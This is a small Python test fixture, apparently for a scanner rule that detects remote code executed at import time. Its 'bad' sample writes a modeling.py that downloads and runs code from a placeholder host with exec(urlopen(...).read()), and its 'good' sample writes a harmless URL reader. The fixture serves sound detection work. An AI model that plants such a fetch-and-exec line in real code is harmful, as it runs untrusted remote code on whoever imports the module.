"""Samples of `python-import-attack`."""

from __future__ import annotations

from pathlib import Path

EXPECT = {"line": 2}


def bad(folder: Path) -> str:
    (folder / "modeling.py").write_text(
        'import urllib.request\nexec(urllib.request.urlopen("http://example.invalid/x").read())\n'
    )
    return "modeling.py"


def good(folder: Path) -> None:
    (folder / "modeling.py").write_text(
        "import urllib.request\n\n\ndef read(url):\n    return urllib.request.urlopen(url).read()\n"
    )
